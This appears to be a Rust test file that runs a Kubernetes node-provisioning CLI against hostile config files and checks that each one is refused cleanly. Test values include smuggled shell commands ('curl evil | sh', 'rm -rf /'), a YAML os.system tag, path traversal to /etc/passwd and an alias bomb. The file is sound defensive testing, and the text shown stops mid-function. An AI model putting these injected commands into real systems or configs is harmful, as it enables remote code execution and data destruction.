//! Hostile and broken input through the real binary: configs crafted to break
//! out of YAML, JSON, TOML, MIME or CloudFormation, wrong types, out-of-range
//! numbers, huge and deeply nested files, bad encodings, YAML tricks (aliases,
//! merge keys, tags, several documents) and files that are not files; then
//! broken state and lock files. Every refusal must name the file (and line),
//! the field and the problem, exit with the documented code, never panic,
//! send no request to the AWS emulator and leave every file as it was. Values
//! that are legitimately valid must render as plain data: re-parsed, they come
//! back unchanged and add no key, part, table, document or resource.
//!
//! tests/invalid holds the corpus of single mistakes; the cases here are new.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::{json, Value};

use crate::beds::AwsEmulator;
use crate::support::*;

const BASE: &str = "apiVersion: karpctl.io/v1alpha1
cluster:
  name: hostile
  region: us-west-2
nodeClasses:
  - name: main
nodePools:
  - name: general
    nodeClass: main
";

const CONFIG: &str = "karpctl.yaml";
const STATE: &str = ".karpctl/hostile.state.json";

/// BASE with lines added to the first pool (4-space indent).
fn pool(extra: &str) -> Vec<u8> {
    format!("{BASE}{extra}\n").into_bytes()
}

/// BASE with lines added to the node class.
fn class(extra: &str) -> Vec<u8> {
    BASE.replacen("  - name: main\n", &format!("  - name: main\n{extra}\n"), 1).into_bytes()
}

/// BASE with top-level sections added.
fn top(extra: &str) -> Vec<u8> {
    format!("{BASE}{extra}\n").into_bytes()
}

/// BASE with one piece replaced.
fn sub(old: &str, new: &str) -> Vec<u8> {
    assert!(BASE.contains(old), "{old:?} is not in BASE");
    BASE.replacen(old, new, 1).into_bytes()
}

fn raw(s: &str) -> Vec<u8> {
    s.as_bytes().to_vec()
}

/// Where the finding must point.
#[derive(Clone, Copy)]
enum At {
    /// The reported line contains this text.
    Text(&'static str),
    Line(usize),
    /// The reported line and column (the column counts characters).
    LineCol(usize, usize),
}

/// How the config reaches karpctl.
enum Src {
    File(Vec<u8>),
    /// `-c` names something that is not a readable regular file.
    Special(fn(&Path) -> PathBuf),
    /// `-c /dev/stdin` fed without end from a pipe.
    EndlessStdin,
}

enum Want {
    /// Findings: one at `field` whose message has `msg`, pointing at `at`.
    Finding { field: &'static str, msg: &'static str, at: At },
    /// The file cannot be read at all: `reading config file <path>` and why.
    Unreadable { msg: &'static str },
}

struct Case {
    name: &'static str,
    src: Src,
    want: Want,
}

fn bad(name: &'static str, bytes: Vec<u8>, field: &'static str, msg: &'static str, at: At) -> Case {
    Case { name, src: Src::File(bytes), want: Want::Finding { field, msg, at } }
}

fn nested(open: &str, close: &str, n: usize) -> String {
    format!("{}{}", open.repeat(n), close.repeat(n))
}

fn cases() -> Vec<Case> {
    use At::*;
    let long_name = "a".repeat(900_000);
    // 20,000 more pools after the base one, each with weight 0.
    let pools_20k = {
        let pools: String = (0..20_000).map(|i| format!("  - {{name: p{i}, nodeClass: main, weight: 0}}\n")).collect();
        format!("{BASE}{pools}").into_bytes()
    };
    let mut v = vec![
        // Wrong types.
        bad("cluster-is-a-string", sub("cluster:\n  name: hostile\n  region: us-west-2\n", "cluster: hostile\n"), "cluster", "expected a mapping, found a string", Text("cluster: hostile")),
        bad("pools-are-a-mapping", sub("nodePools:\n  - name: general\n    nodeClass: main\n", "nodePools: {general: {nodeClass: main}}\n"), "nodePools", "expected a list, found a mapping", Text("nodePools:")),
        bad("classes-are-a-string", sub("nodeClasses:\n  - name: main\n", "nodeClasses: main\n"), "nodeClasses", "expected a list, found a string", Text("nodeClasses: main")),
        bad("api-version-number", sub("apiVersion: karpctl.io/v1alpha1", "apiVersion: 1"), "apiVersion", "1", Text("apiVersion: 1")),
        bad("cluster-name-number", sub("name: hostile", "name: 123"), "cluster.name", "expected a string, found an integer", Text("name: 123")),
        bad("cluster-name-null", sub("name: hostile", "name: ~"), "cluster.name", "found nothing (null)", Text("name: ~")),
        bad("cluster-name-list", sub("name: hostile", "name: [hostile]"), "cluster.name", "expected a string, found a list", Text("name: [hostile]")),
        bad("weight-float", pool("    weight: 1.5"), "nodePools[0].weight", "expected an integer, found a number", Text("weight: 1.5")),
        bad("weight-string", pool("    weight: \"50\""), "nodePools[0].weight", "expected an integer, found a string", Text("weight: \"50\"")),
        bad("weight-bool", pool("    weight: true"), "nodePools[0].weight", "expected an integer, found a boolean", Text("weight: true")),
        bad("replicas-float", top("karpenter:\n  replicas: 2.5"), "karpenter.replicas", "expected an integer, found a number", Text("replicas: 2.5")),
        bad("limit-is-a-list", pool("    limits: {cpu: [1]}"), "nodePools[0].limits.cpu", "found a list", Text("limits:")),
        bad("taints-are-a-string", pool("    taints: \"dedicated=gpu:NoSchedule\""), "nodePools[0].taints", "expected a list, found a string", Text("taints:")),
        bad("labels-are-a-list", pool("    labels: [a, b]"), "nodePools[0].labels", "expected a mapping, found a list", Text("labels:")),
        bad("capacity-types-string", pool("    capacityTypes: spot"), "nodePools[0].capacityTypes", "expected a list, found a string", Text("capacityTypes: spot")),
        bad("feature-gate-string", top("karpenter:\n  settings:\n    featureGates: {spotToSpotConsolidation: \"yes\"}"), "karpenter.settings.featureGates.spotToSpotConsolidation", "expected a boolean, found a string", Text("featureGates:")),
        bad("hop-limit-string", class("    metadataOptions: {httpPutResponseHopLimit: \"1\"}"), "nodeClasses[0].metadataOptions.httpPutResponseHopLimit", "expected an integer, found a string", Text("httpPutResponseHopLimit")),
        bad("nodegroup-size-float", top("rollback:\n  nodegroups:\n    - {name: ng, minSize: 1.5, desiredSize: 2, maxSize: 3}"), "rollback.nodegroups[0].minSize", "expected an integer, found a number", Text("minSize: 1.5")),
        bad("extra-objects-string", top("extraObjects: \"kind: ConfigMap\""), "extraObjects", "expected a list, found a string", Text("extraObjects:")),
        bad("state-path-list", top("state: {path: [a]}"), "state.path", "expected a string, found a list", Text("state:")),
        bad("amis-list", top("amis: [alias]"), "amis", "expected a mapping, found a list", Text("amis: [alias]")),
        bad("userdata-raw-mapping", class("    userData: {raw: {a: b}}"), "nodeClasses[0].userData.raw", "expected a string, found a mapping", Text("userData:")),
        bad("block-devices-mapping", class("    blockDevices: {deviceName: /dev/xvda}"), "nodeClasses[0].blockDevices", "expected a list, found a mapping", Text("blockDevices:")),
        bad("budget-nodes-list", pool("    disruption: {budgets: [{nodes: [1]}]}"), "nodePools[0].disruption.budgets[0].nodes", "found a list", Text("budgets:")),
        bad("requirement-values-string", pool("    requirements: [{key: example.com/x, operator: In, values: a}]"), "nodePools[0].requirements[0].values", "expected a list, found a string", Text("requirements:")),
        bad("stack-tags-list", top("stack: {tags: [a]}"), "stack.tags", "expected a mapping, found a list", Text("stack:")),
        bad("max-pods-string", class("    kubelet: {maxPods: \"110\"}"), "nodeClasses[0].kubelet.maxPods", "expected an integer, found a string", Text("maxPods")),
        bad("tolerations-mapping", top("karpenter:\n  tolerations: {key: a}"), "karpenter.tolerations", "expected a list, found a mapping", Text("tolerations:")),
        bad("instance-profile-number", class("    instanceProfile: 5"), "nodeClasses[0].instanceProfile", "expected a string, found an integer", Text("instanceProfile: 5")),
        bad("architectures-string", class("    architectures: amd64"), "nodeClasses[0].architectures", "expected a list, found a string", Text("architectures: amd64")),
        // Out of range.
        bad("weight-negative", pool("    weight: -1"), "nodePools[0].weight", "-1", Text("weight: -1")),
        bad("weight-beyond-u64", pool("    weight: 99999999999999999999"), "nodePools[0].weight", "the number is too large", Text("weight: 9999")),
        bad("weight-below-i64", pool("    weight: -9223372036854775809"), "nodePools[0].weight", "the number is too large", Text("weight: -92")),
        bad("weight-i64-max", pool("    weight: 9223372036854775807"), "nodePools[0].weight", "9223372036854775807", Text("weight: 92")),
        bad("weight-infinite", pool("    weight: .inf"), "nodePools[0].weight", "infinite or NaN", Text("weight: .inf")),
        bad("replicas-negative", top("karpenter:\n  replicas: -1"), "karpenter.replicas", "-1", Text("replicas: -1")),
        bad("replicas-beyond-u32", top("karpenter:\n  replicas: 4294967296"), "karpenter.replicas", "4294967296", Text("replicas: 4294967296")),
        bad("hop-limit-65", class("    allowWeakerSecurity: true\n    metadataOptions: {httpPutResponseHopLimit: 65}"), "nodeClasses[0].metadataOptions.httpPutResponseHopLimit", "hop limit must be 1–64, got 65", Text("httpPutResponseHopLimit: 65")),
        bad("user-namespaces-over", class("    userData: {userNamespaces: 268435457}"), "nodeClasses[0].userData.userNamespaces", "must be 1–268435456, got 268435457", Text("userNamespaces")),
        bad("gp3-iops-over", class("    blockDevices: [{deviceName: /dev/xvda, size: 100Gi, iops: 16001}]"), "nodeClasses[0].blockDevices[0].iops", "gp3 IOPS must be 3000–16000, got 16001", Text("iops: 16001")),
        bad("gp3-throughput-over", class("    blockDevices: [{deviceName: /dev/xvda, size: 100Gi, iops: 16000, throughput: 1001}]"), "nodeClasses[0].blockDevices[0].throughput", "gp3 throughput must be 125–1000 MiB/s, got 1001", Text("throughput: 1001")),
        bad("min-values-51", pool("    requirements: [{key: example.com/x, operator: In, values: [a], minValues: 51}]"), "nodePools[0].requirements[0].minValues", "minValues must be 1–50, got 51", Text("minValues: 51")),
        bad("max-pods-negative", class("    kubelet: {maxPods: -5}"), "nodeClasses[0].kubelet.maxPods", "maxPods cannot be negative", Text("maxPods: -5")),
        bad("image-gc-101", class("    kubelet: {imageGCHighThresholdPercent: 101}"), "nodeClasses[0].kubelet.imageGCHighThresholdPercent", "must be 0–100, got 101", Text("imageGCHighThresholdPercent: 101")),
        bad("sharing-replicas-1025", top("devicePlugin:\n  sharing:\n    timeSlicing: {replicas: 1025}"), "devicePlugin.sharing.timeSlicing.replicas", "replicas must be 2–1024, got 1025", Text("replicas: 1025")),
        bad("nodegroup-min-negative", top("rollback:\n  nodegroups:\n    - {name: ng, minSize: -1, desiredSize: 2, maxSize: 3}"), "rollback.nodegroups[0].minSize", "minSize cannot be negative", Text("minSize: -1")),
        bad("kubernetes-1-99", sub("region: us-west-2", "region: us-west-2\n  kubernetesVersion: \"1.99\""), "cluster.kubernetesVersion", "1.99", Text("kubernetesVersion")),
        bad("memory-limit-negative", pool("    limits: {memory: \"-1Gi\"}"), "nodePools[0].limits.memory", "limits cannot be negative", Text("limits:")),
        bad("eviction-grace-beyond-i32", class("    kubelet: {evictionMaxPodGracePeriod: 3000000000}"), "nodeClasses[0].kubelet.evictionMaxPodGracePeriod", "must be a non-negative 32-bit integer", Text("evictionMaxPodGracePeriod")),
        bad("budget-nodes-negative", pool("    disruption: {budgets: [{nodes: \"-1\"}]}"), "nodePools[0].disruption.budgets[0].nodes", "is not a node count or percentage", Text("budgets:")),
        bad("consolidate-after-overflow", pool("    disruption: {consolidateAfter: 99999999999999999999h}"), "nodePools[0].disruption.consolidateAfter", "is not a duration", Text("consolidateAfter")),
        bad("cpus-min-beyond-u64", pool("    instances: {cpus: {min: 99999999999999999999}}"), "nodePools[0].instances.cpus.min", "the number is too large", Text("cpus:")),
        // Names and values crafted to break out of YAML, JSON, CloudFormation or a shell.
        bad("cluster-name-yaml-breakout", sub("name: hostile", "name: \"x\\\"\\n---\\nkind: Secret\""), "cluster.name", "is not a valid EKS cluster name", Text("name: \"x")),
        bad("cluster-name-cfn-pseudo-parameter", sub("name: hostile", "name: \"${AWS::AccountId}\""), "cluster.name", "is not a valid EKS cluster name", Text("AWS::AccountId")),
        bad("cluster-name-json-breakout", sub("name: hostile", "name: 'a\"}]'"), "cluster.name", "is not a valid EKS cluster name", Text("name: 'a")),
        bad("pool-name-path-traversal", sub("name: general", "name: ../../etc/passwd"), "nodePools[0].name", "is not a valid Kubernetes object name", Text("../../etc/passwd")),
        bad("class-name-slash", sub("  - name: main\n", "  - name: a/b\n"), "nodeClasses[0].name", "is not a valid Kubernetes object name", Text("name: a/b")),
        bad("stack-name-intrinsic", top("stack: {name: '{\"Fn::Sub\": \"x\"}'}"), "stack.name", "is not a valid CloudFormation stack name", Text("Fn::Sub")),
        bad("queue-name-pseudo-parameter", top("stack: {queueName: \"${AWS::StackName}\"}"), "stack.queueName", "SQS queue name", Text("queueName")),
        bad("node-role-json-breakout", top("stack: {nodeRoleName: 'r\",\"Effect\":\"Allow'}"), "stack.nodeRoleName", "IAM role name", Text("nodeRoleName")),
        bad("controller-role-ref-lookalike", top("identity: {roleName: \"!Ref Role\"}"), "identity.roleName", "IAM role name", Text("roleName")),
        bad("stack-tag-value-bell", top("stack: {tags: {team: \"a\\u0007b\"}}"), "stack.tags.team", "without control characters", Text("tags:")),
        bad("stack-tag-value-too-long", top(&format!("stack: {{tags: {{team: {}}}}}", "v".repeat(257))), "stack.tags.team", "at most 256 characters", Text("tags:")),
        bad("class-tag-value-newline", class("    tags: {team: \"a\\nb\"}"), "nodeClasses[0].tags.team", "without control characters", Text("tags:")),
        bad("label-value-json-breakout", pool("    labels: {app: 'x\"}]'}"), "nodePools[0].labels.app", "is not a valid label value", Text("labels:")),
        bad("label-value-document-marker", pool("    labels: {app: \"---\"}"), "nodePools[0].labels.app", "is not a valid label value", Text("labels:")),
        bad("label-key-newline", pool("    labels: {\"a\\nb\": x}"), "nodePools[0].labels[\"a\\nb\"]", "is not a valid label key", Text("labels:")),
        bad("annotation-key-yaml", pool("    annotations: {\"a: b\": c}"), "nodePools[0].annotations[\"a: b\"]", "is not a valid annotation key", Text("annotations:")),
        bad("taint-value-json-breakout", pool("    taints: [{key: gpu, value: '\"]}', effect: NoSchedule}]"), "nodePools[0].taints[0].value", "is not a valid taint value", Text("taints:")),
        bad("taint-key-pseudo-parameter", pool("    taints: [{key: \"${AWS::Region}\", effect: NoSchedule}]"), "nodePools[0].taints[0].key", "is not a valid taint key", Text("taints:")),
        bad("requirement-value-newline", pool("    requirements: [{key: example.com/x, operator: In, values: [\"a\\nb\"]}]"), "nodePools[0].requirements[0].values[0]", "is not a valid label value", Text("requirements:")),
        bad("bottlerocket-settings-scalar", class("    amiFamily: bottlerocket\n    userData: {raw: \"settings = 5\"}"), "nodeClasses[0].userData.raw", "`settings` must be a table", Text("userData:")),
        bad("bottlerocket-settings-array", class("    amiFamily: bottlerocket\n    userData:\n      raw: |\n        [[settings]]\n        motd = \"x\""), "nodeClasses[0].userData.raw", "`settings` must be a table", Text("[[settings]]")),
        bad("bottlerocket-dotted-other-table", class("    amiFamily: bottlerocket\n    userData: {raw: \"host-containers.admin.enabled = true\"}"), "nodeClasses[0].userData.raw", "may only contain the [settings] table", Text("userData:")),
        bad("bottlerocket-unterminated-string", class("    amiFamily: bottlerocket\n    userData:\n      raw: |\n        [settings.kernel]\n        motd = \"x"), "nodeClasses[0].userData.raw", "Bottlerocket userData must be TOML", Text("[settings.kernel]")),
        bad("mime-raw-with-user-namespaces", class("    userData:\n      userNamespaces: 16384\n      raw: |\n        MIME-Version: 1.0\n        Content-Type: multipart/mixed; boundary=\"b\"\n\n        --b--"), "nodeClasses[0].userData.raw", "cannot be combined with userNamespaces or soci", Text("MIME-Version")),
        bad("userdata-over-16k", class(&format!("    userData: {{raw: \"{}\"}}", "#".repeat(16 * 1024 + 1))), "nodeClasses[0].userData.raw", "userData is limited to 16 KiB", Text("userData:")),
        bad("extra-kind-path-traversal", top("extraObjects:\n  - {apiVersion: v1, kind: \"../../../../tmp/evil\", metadata: {name: x}}"), "extraObjects[0].kind", "is not a Kubernetes kind", Text("kind:")),
        bad("extra-namespace-path-traversal", top("extraObjects:\n  - {apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: \"../../evil\"}}"), "extraObjects[0].metadata.namespace", "is not a valid namespace name", Text("namespace:")),
        bad("extra-api-version-traversal", top("extraObjects:\n  - {apiVersion: \"v1/../../x\", kind: ConfigMap, metadata: {name: x}}"), "extraObjects[0].apiVersion", "is not an apiVersion", Text("apiVersion: \"v1/")),
        bad("extra-namespace-number", top("extraObjects:\n  - {apiVersion: v1, kind: ConfigMap, metadata: {name: x, namespace: 5}}"), "extraObjects[0].metadata.namespace", "5 is not a valid namespace name", Text("namespace: 5")),
        bad("extra-name-traversal", top("extraObjects:\n  - {apiVersion: v1, kind: ConfigMap, metadata: {name: \"../x\"}}"), "extraObjects[0].metadata.name", "is not a valid object name", Text("name: \"../x\"")),
        bad("chart-repository-file-url", top("karpenter:\n  chart: {repository: \"file:///etc/passwd\"}"), "karpenter.chart.repository", "is not a chart reference", Text("repository")),
        bad("namespace-trailing-newline", top("karpenter:\n  namespace: \"kube-system\\n\""), "karpenter.namespace", "is not a valid namespace name", Text("namespace:")),
        bad("device-plugin-namespace-traversal", top("devicePlugin:\n  namespace: \"../x\""), "devicePlugin.namespace", "is not a valid namespace name", Text("namespace:")),
        bad("region-json-breakout", sub("region: us-west-2", "region: 'us-west-2\"}'"), "cluster.region", "is not an AWS region name", Text("region:")),
        bad("s3-bucket-traversal", top("state: {s3: {bucket: \"b/../../x\"}}"), "state.s3.bucket", "is not a valid S3 bucket name", Text("state:")),
        bad("s3-key-too-long", top(&format!("state: {{s3: {{bucket: my-bucket, key: {}}}}}", "k".repeat(1025))), "state.s3.key", "the object key must be 1–1024 characters", Text("state:")),
        bad("zone-json-breakout", pool("    zones: [\"us-west-2a\\\"]\"]"), "nodePools[0].zones[0]", "is not an availability zone name", Text("zones:")),
        bad("instance-type-breakout", pool("    instances: {types: {allowed: [\"m5.large\\\"]\"]}}"), "nodePools[0].instances.types.allowed[0]", "is not a valid label value", Text("instances:")),
        bad("subnet-id-breakout", top("discovery: {subnetIds: [\"subnet-0123\\\"}\"]}"), "discovery.subnetIds[0]", "is not a subnet id", Text("discovery:")),
        bad("soci-version-shell-injection", class("    userData: {soci: {version: \"0.9.0; curl evil | sh\"}}"), "nodeClasses[0].userData.soci.version", "is not a release version", Text("soci:")),
        bad("cluster-dns-shell-injection", class("    kubelet: {clusterDNS: [\"10.0.0.10; rm -rf /\"]}"), "nodeClasses[0].kubelet.clusterDNS[0]", "is not an IP address", Text("clusterDNS")),
        bad("batch-duration-breakout", top("karpenter:\n  settings: {batchMaxDuration: \"10s\\\"}\"}"), "karpenter.settings.batchMaxDuration", "is not a duration", Text("batchMaxDuration")),
        // YAML features: tags, merge keys, anchors, several documents, odd keys.
        bad("tag-ref", pool("    weight: !Ref Weight"), "nodePools[0].weight", "YAML tags such as !Ref are not accepted", Text("!Ref")),
        bad("tag-sub-on-mapping", pool("    labels: !Sub {a: b}"), "nodePools[0].labels", "YAML tags such as !Sub are not accepted", Text("!Sub")),
        bad("tag-getatt-on-list", pool("    zones: !GetAtt [a, b]"), "nodePools[0].zones", "YAML tags such as !GetAtt are not accepted", Text("!GetAtt")),
        bad("tag-explicit-str", pool("    labels: {a: !!str yes}"), "nodePools[0].labels.a", "YAML tags such as !!str are not accepted", Text("!!str")),
        bad("tag-python-object", sub("name: hostile", "name: !!python/object/apply:os.system [\"id\"]"), "cluster.name", "!!python/object/apply:os.system", Text("python")),
        bad("merge-key-from-anchor", raw("base: &b {nodeClass: main}\napiVersion: karpctl.io/v1alpha1\ncluster: {name: hostile}\nnodeClasses: [{name: main}]\nnodePools:\n  - <<: *b\n    name: merged\n"), "base", "unknown field `base`", Line(1)),
        bad("merge-key-inline", pool("  - <<: {nodeClass: main}\n    name: merged"), "nodePools[1][\"<<\"]", "unknown field `<<`", Text("<<")),
        bad("alias-bomb-mappings", raw(&{
            let mut s = String::from("a0: &a0 {x: 1, y: 2}\n");
            for i in 1..10 {
                let p = i - 1;
                s.push_str(&format!("a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"));
            }
            s.push_str("apiVersion: karpctl.io/v1alpha1\ncluster: {name: hostile}\n");
            s
        }), "(file)", "repetition limit", Line(1)),
        bad("undefined-alias", pool("    weight: *nope"), "(file)", "unknown anchor", Text("*nope")),
        bad("nested-lists-10000", top(&format!("extraObjects: {}", nested("[", "]", 10_000))), "(file)", "recursion limit exceeded", Text("extraObjects")),
        bad("nested-mappings-200", top(&format!("extraObjects: {}x{}", "{a: ".repeat(200), "}".repeat(200))), "(file)", "recursion limit exceeded", Text("extraObjects")),
        bad("document-end-then-another", top("...\n---\napiVersion: karpctl.io/v1alpha1"), "(file)", "more than one document", Line(1)),
        bad("trailing-empty-document", top("---"), "(file)", "more than one document", Line(1)),
        bad("directive-and-two-documents", raw(&format!("%YAML 1.2\n---\n{BASE}---\n{BASE}")), "(file)", "more than one document", Line(1)),
        bad("duplicate-key-in-pool", pool("    weight: 1\n    weight: 2"), "(file)", "duplicate entry with key \"weight\"", Text("name: general")),
        bad("unterminated-quote", sub("name: hostile", "name: \"hostile"), "(file)", "while scanning a quoted scalar at line 3", Line(10)),
        bad("complex-mapping-key", raw("? [a, b]\n: c\napiVersion: karpctl.io/v1alpha1\n"), "(top level)", "mapping keys must be plain strings", Line(1)),
        bad("null-mapping-key", top("~: 1"), "(top level)", "mapping keys must be plain strings", Line(1)),
        bad("only-comments", raw("# karpctl config\n# nothing yet\n"), "(top level)", "the file is empty", Line(1)),
        bad("only-whitespace", raw("   \n\n\t\n"), "(file)", "cannot start any token", Line(3)),
        bad("only-document-marker", raw("---\n"), "(top level)", "the file is empty", Line(2)),
        bad("only-null", raw("~\n"), "(top level)", "the file is empty", Line(1)),
        bad("top-level-list", raw("[]\n"), "(top level)", "expected a mapping, found a list", Line(1)),
        bad("top-level-scalar", raw("hello\n"), "(top level)", "expected a mapping, found a string", Line(1)),
        // Encodings and characters.
        bad("latin1-in-comment", {
            let mut b = BASE.replacen("nodeClasses:", "# caf\u{e9}\nnodeClasses:", 1).into_bytes();
            let at = b.windows(2).position(|w| w == [0xc3, 0xa9]).unwrap();
            b.splice(at..at + 2, [0xe9]);
            b
        }, "(file)", "not valid UTF-8", LineCol(5, 6)),
        // The column counts characters: three bytes per snowman, one column each.
        bad("latin1-after-multibyte", [BASE.as_bytes(), "# \u{2603}\u{2603}".as_bytes(), b"\xe9\n"].concat(), "(file)", "not valid UTF-8", LineCol(10, 5)),
        bad("utf16le-bom", {
            let mut b = vec![0xff, 0xfe];
            b.extend(BASE.encode_utf16().flat_map(|u| u.to_le_bytes()));
            b
        }, "(file)", "not valid UTF-8", Line(1)),
        bad("utf16be-bom", {
            let mut b = vec![0xfe, 0xff];
            b.extend(BASE.encode_utf16().flat_map(|u| u.to_be_bytes()));
            b
        }, "(file)", "not valid UTF-8", Line(1)),
        bad("overlong-slash", [BASE.as_bytes(), b"# \xc0\xaf\n"].concat(), "(file)", "not valid UTF-8", Line(10)),
        bad("encoded-surrogate", [b"apiVersion: karpctl.io/v1alpha1\ncluster: {name: \"\xed\xa0\x80\"}\n".as_slice()].concat(), "(file)", "not valid UTF-8", Line(2)),
        bad("truncated-multibyte-at-end", [BASE.as_bytes(), b"# \xe2\x82"].concat(), "(file)", "not valid UTF-8", Line(10)),
        bad("nul-byte-line-3", BASE.replacen("  name: hostile", "  name: host\0ile", 1).into_bytes(), "(file)", "NUL bytes", Line(1)),
        // Line breaks YAML counts and editors do not: positions would disagree (found by fuzzing).
        bad("lone-cr-in-comment", [BASE.as_bytes(), b"# one\rtwo\r\rthree\n".as_slice()].concat(), "(file)", "carriage return (\\r) not followed by a newline", LineCol(10, 6)),
        bad("old-mac-line-endings", BASE.replace('\n', "\r").into_bytes(), "(file)", "carriage return", Line(1)),
        bad("line-separator-in-value", sub("name: hostile", "name: host\u{2028}ile"), "(file)", "U+2028 LINE SEPARATOR", Text("name: host")),
        bad("next-line-in-comment", [BASE.as_bytes(), "# a\u{85}b\n".as_bytes()].concat(), "(file)", "U+0085 NEXT LINE", Line(10)),
        bad("escaped-nul-in-name", sub("name: hostile", "name: \"host\\0ile\""), "cluster.name", "is not a valid EKS cluster name", Text("name:")),
        bad("terminal-escape-in-key", pool("    \"\\e]0;pwned\\a\\e[31m\": 1"), "nodePools[0][\"\\u{1b}]0;pwned\\u{7}\\u{1b}[31m\"]", "unknown field", Text("pwned")),
        bad("bidi-override-in-name", sub("name: general", "name: \"gen\u{202e}lareneg\""), "nodePools[0].name", "is not a valid Kubernetes object name", Text("name: \"gen")),
        bad("bell-in-label-value", pool("    labels: {app: \"a\\bb\\u0007\"}"), "nodePools[0].labels.app", "is not a valid label value", Text("labels:")),
        bad("zero-width-space-in-cluster", sub("name: hostile", "name: \"host\u{200b}ile\""), "cluster.name", "is not a valid EKS cluster name", Text("name:")),
        // Huge files.
        bad("over-1mib-of-comments", top(&"# padding padding padding padding padding padding padding\n".repeat(19_000)), "(file)", "larger than 1048576 bytes", Line(1)),
        bad("cluster-name-900k", sub("name: hostile", &format!("name: {long_name}")), "cluster.name", "is not a valid EKS cluster name", Text("name: aaaa")),
        bad("zones-100k-integers", pool(&format!("    zones: [{}]", vec!["1"; 100_000].join(","))), "nodePools[0].zones[0]", "expected a string, found an integer", Text("zones:")),
        bad("zones-100k-strings", pool(&format!("    zones: [{}]", vec!["a"; 100_000].join(","))), "nodePools[0].zones[0]", "zone \"a\" is not in region us-west-2", Text("zones:")),
        bad("pools-20k", pools_20k, "nodePools[1].weight", "weight must be between 1 and 100, got 0", Text("name: p0,")),
        bad("unknown-key-100k", pool(&format!("    {}: 1", "k".repeat(100_000))), "(file)", "could not find expected ':'", Text("kkkk")),
    ];
    v.extend([
        Case {
            name: "config-is-a-directory",
            src: Src::Special(|d| {
                let p = d.join("conf.d");
                std::fs::create_dir_all(&p).unwrap();
                p
            }),
            want: Want::Unreadable { msg: "it is a directory, not a config file" },
        },
        Case {
            name: "config-is-a-symlink-loop",
            src: Src::Special(|d| {
                std::os::unix::fs::symlink(d.join("loop-b"), d.join("loop-a")).unwrap();
                std::os::unix::fs::symlink(d.join("loop-a"), d.join("loop-b")).unwrap();
                d.join("loop-a")
            }),
            want: Want::Unreadable { msg: "Too many levels of symbolic links" },
        },
        Case {
            // Unreadable even for root: reading address 0 of a process fails with EIO.
            name: "config-is-unreadable",
            src: Src::Special(|_| PathBuf::from("/proc/self/mem")),
            want: Want::Unreadable { msg: "Input/output error" },
        },
        Case { name: "config-is-missing", src: Src::Special(|d| d.join("nope.yaml")), want: Want::Unreadable { msg: "No such file or directory" } },
        Case {
            name: "config-is-dev-zero",
            src: Src::Special(|_| PathBuf::from("/dev/zero")),
            want: Want::Finding { field: "(file)", msg: "larger than 1048576 bytes", at: At::Line(1) },
        },
        Case {
            name: "config-is-an-endless-pipe",
            src: Src::EndlessStdin,
            want: Want::Finding { field: "(file)", msg: "larger than 1048576 bytes", at: At::Line(1) },
        },
    ]);
    v
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// karpctl in `dir` with the AWS emulator (or a closed port) as its endpoint.
fn karpctl(dir: &Path, endpoint: &str, args: &[&str], stdin: Option<&[u8]>) -> Output {
    let mut cmd = karpctl_command(dir, endpoint, args);
    match stdin {
        None => {
            cmd.stdin(Stdio::null());
            cmd.output().unwrap()
        }
        Some(chunk) => {
            // An endless writer: karpctl must stop reading on its own.
            cmd.stdin(Stdio::piped());
            let mut child = cmd.spawn().unwrap();
            let mut w = child.stdin.take().unwrap();
            let chunk = chunk.to_vec();
            let feeder = std::thread::spawn(move || while w.write_all(&chunk).is_ok() {});
            let out = child.wait_with_output().unwrap();
            feeder.join().unwrap();
            out
        }
    }
}

/// The command `karpctl()` runs, for a test that spawns it; stdout and stderr piped.
fn karpctl_command(dir: &Path, endpoint: &str, args: &[&str]) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_karpctl"));
    cmd.args(args).current_dir(dir).env("NO_COLOR", "1").env("CI", "1");
    for (k, _) in std::env::vars_os() {
        if k.to_string_lossy().starts_with("AWS_") || k.to_string_lossy().starts_with("KARPCTL_") {
            cmd.env_remove(k);
        }
    }
    cmd.env("AWS_ENDPOINT_URL", endpoint)
        .env("AWS_ACCESS_KEY_ID", "testing")
        .env("AWS_SECRET_ACCESS_KEY", "testing")
        .env("AWS_REGION", "us-west-2")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .env("KUBECONFIG", dir.join("no-kubeconfig"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    cmd
}

/// Every file under `dir` with its bytes (symlinks as their target).
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.file_type().is_symlink() {
                out.insert(p.clone(), std::fs::read_link(&p).unwrap().into_os_string().into_encoded_bytes());
            } else if meta.is_dir() {
                out.insert(p.clone(), b"<dir>".to_vec());
                todo.push(p);
            } else {
                out.insert(p.clone(), std::fs::read(&p).unwrap());
            }
        }
    }
    out
}

/// What karpctl must leave alone: a state, its backup, and a rendered directory.
fn plant(dir: &Path) {
    std::fs::create_dir_all(dir.join(".karpctl")).unwrap();
    let st = json!({"version": 1, "lineage": "0b7d1c9e-8f57-4d5e-9d1c-2f3b4a5c6d7e", "serial": 7, "tool_version": "0.1.0",
        "cluster": "hostile", "region": "us-west-2", "steps": {}});
    std::fs::write(dir.join(STATE), serde_json::to_vec_pretty(&st).unwrap()).unwrap();
    std::fs::write(dir.join(format!("{STATE}.backup")), b"{\"previous\": true}\n").unwrap();
    std::fs::create_dir_all(dir.join("out/helm")).unwrap();
    std::fs::write(dir.join("out/kustomization.yaml"), b"resources: [keep-me.yaml]\n").unwrap();
    std::fs::write(dir.join("out/helm/karpenter-values.yaml"), b"# rendered earlier\n").unwrap();
}

/// Problems with one run of one case, if any.
fn check_run(case: &Case, cmd: &str, cfg: &str, o: &Output, json_mode: bool, problems: &mut Vec<String>) {
    let err = text(&o.stderr);
    let mut fail = |why: String| problems.push(format!("{} [{cmd}]: {why}\nstderr: {}", case.name, cut(&err)));
    if o.status.code() == Some(101) || err.contains("panicked") {
        fail("panicked".into());
